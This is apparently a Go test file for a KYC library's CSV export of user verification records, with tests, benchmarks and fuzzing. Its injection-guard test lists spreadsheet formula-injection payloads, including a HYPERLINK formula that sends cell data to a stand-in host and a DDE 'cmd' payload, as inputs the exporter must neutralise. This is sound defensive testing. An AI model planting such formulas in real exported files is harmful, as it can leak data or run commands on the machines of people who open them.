package fractalid_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/jarcoal/httpmock"

	"github.com/kycgo/kyc"
	"github.com/kycgo/kyc/fractalid"
)

// The -update flag rewrites golden files. It is registered only if no other
// test file of the package registered it first.
func init() {
	if flag.Lookup("update") == nil {
		flag.Bool("update", false, "rewrite golden files in testdata")
	}
}

func exportUpdateGolden() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

func exportRowsFixture(t testing.TB) []fractalid.UserVerification {
	t.Helper()
	var rows []fractalid.UserVerification
	if err := json.Unmarshal(statsFixture(t, "stats_users_mixed.json"), &rows); err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestExportCSVGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := fractalid.ExportCSV(&buf, exportRowsFixture(t), fractalid.WithLevelColumns()); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "export_golden.csv")
	if exportUpdateGolden() {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -run TestExportCSVGolden -update)", err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("export differs from %s (run with -update after checking)\n got:\n%s\nwant:\n%s", golden, buf.Bytes(), want)
	}
}

func TestExportCSVColumns(t *testing.T) {
	rows := []fractalid.UserVerification{
		{UserID: "u1", RawLevel: "v1", Status: fractalid.StatusApproved},
		{UserID: "u1", RawLevel: "light+selfie+wallet", Status: fractalid.StatusPending},
		{UserID: "u2", RawLevel: "basic + liveness", Status: fractalid.StatusExpired},
	}
	tests := []struct {
		name string
		opts []fractalid.ExportOption
		want string
	}{
		{"plain", nil, "user_id,level,status\nu1,v1,approved\nu1,light+selfie+wallet,pending\nu2,basic + liveness,expired\n"},
		{"item columns", []fractalid.ExportOption{fractalid.WithItemColumns(fractalid.LevelBasic, fractalid.AddOnLiveness, fractalid.AddOnSelfie)},
			"user_id,level,status,basic,liveness,selfie\nu1,v1,approved,,,\nu1,light+selfie+wallet,pending,,,yes\nu2,basic + liveness,expired,yes,yes,\n"},
		{"level columns", []fractalid.ExportOption{fractalid.WithLevelColumns()},
			"user_id,level,status,basic,v1,light,liveness,selfie,wallet\nu1,v1,approved,,yes,,,,\nu1,light+selfie+wallet,pending,,,yes,,yes,yes\nu2,basic + liveness,expired,yes,,,yes,,\n"},
		{"item then level columns", []fractalid.ExportOption{fractalid.WithItemColumns(fractalid.LevelPlus, fractalid.AddOnSelfie), fractalid.WithLevelColumns()},
			"user_id,level,status,plus,selfie,basic,v1,light,liveness,wallet\nu1,v1,approved,,,,yes,,,\nu1,light+selfie+wallet,pending,,yes,,,yes,,yes\nu2,basic + liveness,expired,,,yes,,,yes,\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := fractalid.ExportCSV(&buf, rows, tt.opts...); err != nil {
				t.Fatal(err)
			}
			if buf.String() != tt.want {
				t.Errorf("got\n%s\nwant\n%s", buf.String(), tt.want)
			}
		})
	}
}

func TestExportCSVEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := fractalid.ExportCSV(&buf, nil, fractalid.WithLevelColumns()); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "user_id,level,status\n" {
		t.Errorf("got %q, want the header only", got)
	}
}

// TestExportInjectionGuard checks every cell kind (user ID, level, status,
// item column headers) against the values OWASP lists as formula triggers.
func TestExportInjectionGuard(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://example.invalid?x="&A1,"click")`, `'=HYPERLINK("http://example.invalid?x="&A1,"click")`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+1", "'+1"},
		{"+basic", "'+basic"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=already quoted", "'=already quoted"},
		{"approved", "approved"},
		{"a=b", "a=b"},
		{"1-2", "1-2"},
		{"", ""},
		{"320bfdaa-213e-41fb-8d77-ed98c415f01e", "320bfdaa-213e-41fb-8d77-ed98c415f01e"},
		{"with,comma and \"quotes\"", "with,comma and \"quotes\""},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%q", tt.in), func(t *testing.T) {
			var buf bytes.Buffer
			row := fractalid.UserVerification{UserID: tt.in, RawLevel: tt.in, Status: fractalid.Status(tt.in)}
			if err := fractalid.ExportCSV(&buf, []fractalid.UserVerification{row}); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != 2 {
				t.Fatalf("records = %d, want 2", len(recs))
			}
			if want := []string{tt.want, tt.want, tt.want}; !reflect.DeepEqual(recs[1], want) {
				t.Errorf("row = %q, want %q", recs[1], want)
			}
		})
	}
	t.Run("item column header", func(t *testing.T) {
		var buf bytes.Buffer
		rows := []fractalid.UserVerification{{UserID: "u", RawLevel: "basic+=evil()+@x", Status: "approved"}}
		if err := fractalid.ExportCSV(&buf, rows, fractalid.WithLevelColumns()); err != nil {
			t.Fatal(err)
		}
		want := "user_id,level,status,basic,'=evil(),'@x\nu,basic+=evil()+@x,approved,yes,yes,yes\n"
		if buf.String() != want {
			t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
		}
	})
}

func TestCSVExporterStreaming(t *testing.T) {
	var buf bytes.Buffer
	e, err := fractalid.NewCSVExporter(&buf, fractalid.WithItemColumns(fractalid.LevelBasic))
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []fractalid.UserVerification{{UserID: "a", RawLevel: "basic", Status: "approved"}, {UserID: "b", RawLevel: "plus", Status: "pending"}} {
		if err := e.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if buf.Len() != 0 {
		t.Errorf("wrote %d bytes before Flush for two small rows", buf.Len())
	}
	if err := e.Flush(); err != nil {
		t.Fatal(err)
	}
	if want := "user_id,level,status,basic\na,basic,approved,yes\nb,plus,pending,\n"; buf.String() != want {
		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
	}
}

type exportFailingWriter struct{ err error }

func (w exportFailingWriter) Write([]byte) (int, error) { return 0, w.err }

func TestExportWriterError(t *testing.T) {
	boom := errors.New("disk full")
	rows := make([]fractalid.UserVerification, 1000)
	for i := range rows {
		rows[i] = fractalid.UserVerification{UserID: fmt.Sprintf("user-%04d", i), RawLevel: "basic", Status: "approved"}
	}
	if err := fractalid.ExportCSV(exportFailingWriter{boom}, rows); !errors.Is(err, boom) {
		t.Errorf("ExportCSV err = %v, want %v", err, boom)
	}
	e, err := fractalid.NewCSVExporter(exportFailingWriter{boom})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Flush(); !errors.Is(err, boom) {
		t.Errorf("Flush err = %v", err)
	}
	if err := e.Write(rows[0]); !errors.Is(err, boom) {
		t.Errorf("Write after failure err = %v", err)
	}
}

func TestExportOptionErrors(t *testing.T) {
	tests := []struct {
		name string
		opts []fractalid.ExportOption
	}{
		{"no items", []fractalid.ExportOption{fractalid.WithItemColumns()}},
		{"empty item", []fractalid.ExportOption{fractalid.WithItemColumns("")}},
		{"combined item", []fractalid.ExportOption{fractalid.WithItemColumns("basic+liveness")}},
		{"padded item", []fractalid.ExportOption{fractalid.WithItemColumns(" basic")}},
		{"duplicate item", []fractalid.ExportOption{fractalid.WithItemColumns("basic", "liveness", "basic")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := fractalid.ExportCSV(&buf, nil, tt.opts...); !errors.Is(err, kyc.ErrInvalidArgument) {
				t.Errorf("ExportCSV err = %v, want ErrInvalidArgument", err)
			}
			if _, err := fractalid.NewCSVExporter(&buf, tt.opts...); !errors.Is(err, kyc.ErrInvalidArgument) {
				t.Errorf("NewCSVExporter err = %v, want ErrInvalidArgument", err)
			}
			if buf.Len() != 0 {
				t.Errorf("wrote %q despite invalid options", buf.String())
			}
		})
	}
	if _, err := fractalid.NewCSVExporter(io.Discard, fractalid.WithLevelColumns()); !errors.Is(err, kyc.ErrInvalidArgument) {
		t.Errorf("NewCSVExporter(WithLevelColumns) err = %v, want ErrInvalidArgument", err)
	}
	if err := fractalid.ExportCSV(nil, nil); !errors.Is(err, kyc.ErrInvalidArgument) {
		t.Errorf("ExportCSV(nil writer) err = %v", err)
	}
}

func TestStatsExportUserVerifications(t *testing.T) {
	t.Run("ok", func(t *testing.T) {
		mt, c := statsMock(t)
		mt.RegisterResponder(http.MethodGet, statsResourceURL+"/v2/stats/user-verifications", statsJSON(t, statsFixture(t, "stats_users.json")))
		var buf bytes.Buffer
		if err := c.ExportUserVerifications(t.Context(), &buf, []fractalid.ExportOption{fractalid.WithLevelColumns()}); err != nil {
			t.Fatal(err)
		}
		want := "user_id,level,status,v1,light,selfie,wallet\n" +
			"320bfdaa-213e-41fb-8d77-ed98c415f01e,v1,approved,yes,,,\n" +
			"320bfdaa-213e-41fb-8d77-ed98c415f01e,light+selfie+wallet,pending,,yes,yes,yes\n"
		if buf.String() != want {
			t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
		}
	})
	t.Run("truncated body writes nothing", func(t *testing.T) {
		mt, c := statsMock(t)
		mt.RegisterResponder(http.MethodGet, statsResourceURL+"/v2/stats/user-verifications", httpmock.NewStringResponder(200, `[{"user_id":"a","level":"basic","credential":"approved"},`))
		var buf bytes.Buffer
		if err := c.ExportUserVerifications(t.Context(), &buf, nil); !errors.Is(err, kyc.ErrDecode) {
			t.Errorf("err = %v, want ErrDecode", err)
		}
		if buf.Len() != 0 {
			t.Errorf("wrote %q", buf.String())
		}
	})
	t.Run("bad option sends no request", func(t *testing.T) {
		mt, c := statsMock(t)
		if err := c.ExportUserVerifications(t.Context(), io.Discard, []fractalid.ExportOption{fractalid.WithItemColumns()}); !errors.Is(err, kyc.ErrInvalidArgument) {
			t.Errorf("err = %v", err)
		}
		if n := mt.GetTotalCallCount(); n != 0 {
			t.Errorf("%d requests sent", n)
		}
	})
}

// exportBenchRows builds n rows shaped like real data.
func exportBenchRows(n int) []fractalid.UserVerification {
	levels := []string{"basic+liveness", "plus+selfie", "uniqueness", "basic+liveness+wallet-eth", "v1", "light+selfie+wallet"}
	statuses := []fractalid.Status{"approved", "pending", "rejected", "contacted", "expired"}
	rows := make([]fractalid.UserVerification, n)
	for i := range rows {
		rows[i] = fractalid.UserVerification{
			UserID:   fmt.Sprintf("%08x-213e-41fb-8d77-ed98c415f01e", i),
			RawLevel: levels[i%len(levels)],
			Status:   statuses[i%len(statuses)],
		}
	}
	return rows
}

const exportBenchN = 100_000

func BenchmarkExportCSV(b *testing.B) {
	rows := exportBenchRows(exportBenchN)
	b.ReportAllocs()
	for b.Loop() {
		if err := fractalid.ExportCSV(io.Discard, rows); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkExportCSVLevelColumns(b *testing.B) {
	rows := exportBenchRows(exportBenchN)
	b.ReportAllocs()
	for b.Loop() {
		if err := fractalid.ExportCSV(io.Discard, rows, fractalid.WithLevelColumns()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkExportCSVRawBaseline writes the same rows with a bare
// csv.Writer: no injection guard, no item columns.
func BenchmarkExportCSVRawBaseline(b *testing.B) {
	rows := exportBenchRows(exportBenchN)
	b.ReportAllocs()
	for b.Loop() {
		w := csv.NewWriter(io.Discard)
		if err := w.Write([]string{"user_id", "level", "status"}); err != nil {
			b.Fatal(err)
		}
		rec := make([]string, 3)
		for _, r := range rows {
			rec[0], rec[1], rec[2] = r.UserID, r.RawLevel, string(r.Status)
			if err := w.Write(rec); err != nil {
				b.Fatal(err)
			}
		}
		w.Flush()
		if err := w.Error(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkExportCSVLevelColumnsRawBaseline writes records as wide as
// WithLevelColumns produces (10 item columns, cells computed beforehand)
// with a bare csv.Writer.
func BenchmarkExportCSVLevelColumnsRawBaseline(b *testing.B) {
	rows := exportBenchRows(exportBenchN)
	cols := []string{"uniqueness", "basic", "plus", "v1", "light", "liveness", "selfie", "wallet", "wallet-eth"}
	header := append([]string{"user_id", "level", "status"}, cols...)
	cells := make([][]string, len(rows))
	for i, r := range rows {
		rec := make([]string, 0, len(header))
		rec = append(rec, r.UserID, r.RawLevel, string(r.Status))
		l := r.Level()
		for _, c := range cols {
			if l.Has(fractalid.Item(c)) {
				rec = append(rec, "yes")
			} else {
				rec = append(rec, "")
			}
		}
		cells[i] = rec
	}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		w := csv.NewWriter(io.Discard)
		if err := w.Write(header); err != nil {
			b.Fatal(err)
		}
		for _, rec := range cells {
			if err := w.Write(rec); err != nil {
				b.Fatal(err)
			}
		}
		w.Flush()
		if err := w.Error(); err != nil {
			b.Fatal(err)
		}
	}
}

// FuzzStatsExportCSV checks that any row exports to CSV that reads back to
// the same values, with every dangerous leading character neutralised.
func FuzzStatsExportCSV(f *testing.F) {
	f.Add("320bfdaa-213e-41fb-8d77-ed98c415f01e", "light+selfie+wallet", "pending")
	f.Add("=HYPERLINK(\"x\")", "+basic++@x", "@SUM(1,2)")
	f.Add("\t-1", "basic + liveness", "\r\n=1")
	f.Add("a,\"b\"\nc", " ", "")
	f.Fuzz(func(t *testing.T, user, level, status string) {
		row := fractalid.UserVerification{UserID: user, RawLevel: level, Status: fractalid.Status(status)}
		var buf bytes.Buffer
		if err := fractalid.ExportCSV(&buf, []fractalid.UserVerification{row}, fractalid.WithLevelColumns()); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("export does not read back: %v\n%q", err, buf.String())
		}
		if len(recs) != 2 {
			t.Fatalf("records = %d, want 2: %q", len(recs), buf.String())
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("cell %q starts with a formula trigger", cell)
				}
			}
		}
		for i, in := range []string{user, level, status} {
			want := in
			if want != "" && strings.ContainsRune("=+-@\t\r", rune(want[0])) {
				want = "'" + want
			}
			// encoding/csv reads a quoted \r\n back as \n.
			want = strings.ReplaceAll(want, "\r\n", "\n")
			if got := recs[1][i]; got != want {
				t.Fatalf("cell %d = %q, want %q", i, got, want)
			}
		}
	})
}
